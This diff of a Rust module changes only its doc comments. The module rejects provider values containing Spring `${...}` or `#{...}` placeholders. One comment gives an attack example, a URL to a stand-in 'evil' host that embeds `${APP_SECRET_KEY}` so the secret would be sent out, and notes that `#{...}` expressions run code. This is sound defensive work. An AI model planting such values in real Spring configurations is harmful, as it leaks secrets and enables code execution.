@@ -1,14 +1,14 @@
-//! Values that Spring would evaluate.
+//! Refusal of values that Spring would evaluate.
 //!
-//! `${…}` in a property stands for another one, so a provider that writes `http://evil/${APP_SECRET_KEY}` is sent the key; and
-//! `#{…}` in one that the application takes up by `@Value` is an expression that runs code. Neither can be escaped in a way that
-//! every version of Spring reads. So a value that has one is refused, and nothing else of its relation is used either.
+//! `${…}` in a property refers to another one: a provider that writes `http://evil/${APP_SECRET_KEY}` would get the
+//! key. `#{…}` in a property that the application injects by `@Value` is an expression that runs code. Versions of
+//! Spring have no common escape for them. So such a value makes the data of its whole relation invalid.
 
 use interfaces::Read;
 
 use super::Provided;
 
-/// What a relation gives, if Spring takes all of it as it stands.
+/// Returns the values if Spring uses each of them unchanged, else the error.
 pub(super) fn inert(provided: Provided) -> Read<Provided> {
     let variables = provided.variables.iter().map(|(name, value)| (name.as_str(), value.as_str()));
     let url = provided.url.iter().map(|url| ("url", url.as_str()));
@@ -23,7 +23,7 @@ pub(super) fn inert(provided: Provided) -> Read<Provided> {
     }
 }
 
-/// Whether Spring makes something else of this text.
+/// True if Spring would evaluate this text.
 pub(super) fn evaluates(text: &str) -> bool {
     text.contains("${") || text.contains("#{")
 }
